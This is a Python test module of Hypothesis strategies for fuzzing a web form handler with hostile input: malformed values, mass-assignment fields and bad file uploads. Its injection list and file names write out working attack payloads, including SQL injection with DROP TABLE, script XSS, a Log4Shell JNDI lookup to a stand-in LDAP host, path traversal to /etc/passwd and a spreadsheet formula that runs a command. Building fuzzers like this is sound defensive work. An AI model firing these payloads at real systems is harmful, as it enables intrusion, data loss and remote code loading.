"""Hypothesis strategies for hostile form input: long strings, control characters (NUL
included), unicode with lone surrogates, numbers, dates and ids of the wrong type or out of
range, repeated, missing and extra fields.

A submission is a list of (name, value) pairs; a value is `str` (encoded as UTF-8 with
surrogates passed through, so lone surrogates reach the server as the bytes a broken client
would send) or `bytes` (sent as they are, e.g. invalid UTF-8)."""

from __future__ import annotations

import uuid
from dataclasses import dataclass, field
from urllib.parse import quote_from_bytes

from hypothesis import strategies as st

# Fields a client could add to try to change what it may not (mass assignment).
MASS_ASSIGNMENT_FIELDS = (
    "role",
    "roles",
    "organisation_id",
    "region_id",
    "id",
    "created_by",
    "created_by_id",
    "user_id",
    "person_id",
    "is_admin",
    "active",
    "must_change_password",
    "password_hash",
    "totp_secret",
    "region",
)

WRONG_NUMBERS = (
    "-1",
    "0",
    "-0",
    "1e309",
    "NaN",
    "inf",
    "-inf",
    "3.14",
    "0x1F",
    " 12 ",
    "99999999999999999999999999",
    "-9223372036854775809",
    "2147483648",
    "\u0661\u0662\u0663",  # Arabic-Indic digits: int() accepts them
    "\uff11\uff12",  # full-width digits
    "1_000",
    "\u00b2",  # superscript two: str.isdigit() says yes, int() says no
    "1\u00b3",
)
WRONG_DATES = (
    "2026-02-30",
    "2026-13-01",
    "0000-00-00",
    "0001-01-01",
    "9999-12-31",
    "10000-01-01",
    "-2026-01-01",
    "31-12-2026",
    "2026-1-1",
    "1900-01-01",
    "2026-11-02T25:61:00",
    "2026-11-02 00:00:00+99:00",
    "1970-01-01T00:00:00Z",
    "2026-W45-1",
    "20261102",
    "\u0662\u0660\u0662\u0666-01-01",
)
WRONG_IDS = (
    "00000000-0000-0000-0000-000000000000",
    "ffffffff-ffff-ffff-ffff-ffffffffffff",
    "not-a-uuid",
    "{12345678-1234-5678-1234-567812345678}",
    "12345678123456781234567812345678",
    "urn:uuid:12345678-1234-5678-1234-567812345678",
    "12345678-1234-5678-1234-56781234567g",
    "1",
    "-1",
)
INJECTIONS = (
    "' OR '1'='1' --",
    '"; DROP TABLE persons; --',
    "<script>alert(1)</script>",
    "{{7*7}}{% raw %}",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "${jndi:ldap://example.invalid/a}",
    "javascript:alert(1)",
    "//evil.example/",
    "\\\\evil.example\\share",
    "=cmd|' /C calc'!A0",
)
WEIRD_UNICODE = (
    "\u202eevil\u202c",
    "\u200b\u200c\u200d\ufeff",
    "e\u0301\u0301\u0301\u0301",
    "\U0001f4a9\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\uffff\ufffe\U0010ffff",
    "\u00a0\u2028\u2029",
    "İıſK",
    "ẞß",
)
INVALID_UTF8 = (b"\xff\xfe", b"\xc3\x28", b"\xed\xa0\x80", b"\xe2\x82", b"\x80abc", b"%00")

_control = st.characters(min_codepoint=0, max_codepoint=0x1F) | st.sampled_from("\x7f\x85")


def long_strings() -> st.SearchStrategy[str]:
    """A few thousand to a few hundred thousand characters (a database limit, an index, a
    field length that is not checked)."""
    return st.builds(
        lambda unit, n: unit * n,
        st.sampled_from(["x", "é", "\U0001f600", "ab\x00", "9", " "]),
        st.sampled_from([256, 1001, 4097, 65537, 200_000]),
    )


def control_strings() -> st.SearchStrategy[str]:
    return st.one_of(
        st.just("\x00"),
        st.just("Naam\x00met nul"),
        st.text(alphabet=_control, min_size=1, max_size=12),
        st.text(alphabet=_control | st.sampled_from("abc "), min_size=1, max_size=30),
    )


def unicode_strings() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(WEIRD_UNICODE),
        st.text(alphabet=st.characters(categories=["Cs"]), min_size=1, max_size=4),
        st.text(min_size=1, max_size=40),
    )


def hostile_values() -> st.SearchStrategy[str | bytes]:
    return st.one_of(
        long_strings(),
        control_strings(),
        unicode_strings(),
        st.sampled_from(WRONG_NUMBERS),
        st.sampled_from(WRONG_DATES),
        st.sampled_from(WRONG_IDS),
        st.uuids().map(str),
        st.sampled_from(INJECTIONS),
        st.sampled_from(INVALID_UTF8),
        st.sampled_from(["", " ", "\t\n", "ja", "on", "true", "2", "None", "null", "[]", "{}"]),
        st.integers(min_value=-(2**70), max_value=2**70).map(str),
    )


FILENAMES = ("verslag.pdf", "notitie.txt", "brief.docx")
FILE_CONTENTS = (
    b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",
    b"Een korte notitie.\n",
)


def hostile_files() -> st.SearchStrategy[tuple[str, bytes]]:
    """A file part: a hostile name (path, NUL, very long, no extension) and content that is
    empty, of another type than its name says, or bytes that are no document at all."""
    names = st.one_of(
        st.sampled_from(
            [
                "../../etc/passwd",
                "..\\..\\boot.ini",
                "a\x00.pdf",
                "",
                ".pdf",
                "x" * 300 + ".pdf",
                "verslag.pdf.exe",
                "\u202egpj.exe",
                "CON",
            ]
        ),
        control_strings(),
        unicode_strings(),
    )
    contents = st.one_of(
        st.sampled_from([b"", b"MZ\x90\x00", b"PK\x03\x04", b"%PDF-", b"<html><script>x</script>"]),
        st.binary(max_size=200),
    )
    return st.tuples(names, contents)


@dataclass
class FieldSpec:
    """A form field as the page renders it: its kind and the values a browser could send."""

    name: str
    kind: str = "text"
    values: list[str] = field(default_factory=list)

    def plausible(self) -> st.SearchStrategy:
        if self.kind == "file":
            return st.tuples(st.sampled_from(FILENAMES), st.sampled_from(FILE_CONTENTS))
        options = [v for v in self.values if v is not None]
        if options:
            return st.sampled_from(options)
        if self.kind == "date":
            return st.dates().map(lambda d: d.isoformat())
        if self.kind == "number":
            return st.integers(min_value=-5, max_value=30).map(str)
        return st.text(alphabet="abcdefghij klmnop.-", min_size=0, max_size=40)


@dataclass
class Submission:
    pairs: list[tuple[str, str | bytes]]
    hostile: list[str]
    extra: list[str]

    def __repr__(self) -> str:  # short enough for a failure message
        shown = [(k, v[:60] if isinstance(v, str | bytes) else v) for k, v in self.pairs]
        return f"Submission({shown!r})"


def submissions(
    fields: list[FieldSpec], mass_values: dict[str, list[str]]
) -> st.SearchStrategy[Submission]:
    """Each field: a plausible value, a hostile one, several values, or left out; plus extra
    fields that the form does not have."""
    names = {f.name for f in fields}
    extra_names = [n for n in MASS_ASSIGNMENT_FIELDS if n not in names]

    @st.composite
    def build(draw) -> Submission:
        pairs: list[tuple[str, str | bytes]] = []
        hostile: list[str] = []
        for spec in fields:
            how = draw(st.sampled_from(["plausible", "hostile", "hostile", "many", "missing"]))
            if how == "missing":
                continue
            if how == "plausible":
                pairs.append((spec.name, draw(spec.plausible())))
                continue
            count = 1 if how == "hostile" else draw(st.integers(min_value=2, max_value=4))
            for _ in range(count):
                if spec.kind == "file":
                    value = draw(hostile_files())
                    pairs.append((spec.name, value))
                    hostile.extend(v for v in value if isinstance(v, str))
                    continue
                value = draw(hostile_values() | spec.plausible())
                pairs.append((spec.name, value))
                if isinstance(value, str):
                    hostile.append(value)
        extra: list[str] = []
        for name in draw(st.lists(st.sampled_from(extra_names), max_size=4, unique=True)):
            value = draw(st.sampled_from(mass_values.get(name) or [str(uuid.uuid4())]))
            pairs.append((name, value))
            extra.append(name)
        return Submission(draw(st.permutations(pairs)), hostile, extra)

    return build()


def _encode(value: str | bytes) -> bytes:
    if isinstance(value, bytes):
        return value
    return value.encode("utf-8", "surrogatepass")


def urlencoded(pairs) -> bytes:
    def quoted(value) -> bytes:
        if isinstance(value, tuple):  # a file field outside a multipart form: its content
            value = value[1]
        return quote_from_bytes(_encode(value), safe=b"").encode()

    return b"&".join(quoted(k) + b"=" + quoted(v) for k, v in pairs)


def _header_value(value: str) -> bytes:
    return _encode(value).replace(b'"', b"%22").replace(b"\r", b"").replace(b"\n", b"")


def multipart(pairs) -> tuple[bytes, str]:
    """A multipart body; a (filename, content) value is a file part."""
    boundary = "fuzzgrens" + uuid.uuid4().hex
    out = []
    for name, value in pairs:
        head = f'--{boundary}\r\nContent-Disposition: form-data; name="'.encode()
        head += _header_value(name) + b'"'
        if isinstance(value, tuple):
            filename, content = value
            head += b'; filename="' + _header_value(filename) + b'"'
            head += b"\r\nContent-Type: application/octet-stream"
            value = content
        out.append(head + b"\r\n\r\n" + _encode(value) + b"\r\n")
    out.append(f"--{boundary}--\r\n".encode())
    return b"".join(out), f"multipart/form-data; boundary={boundary}"
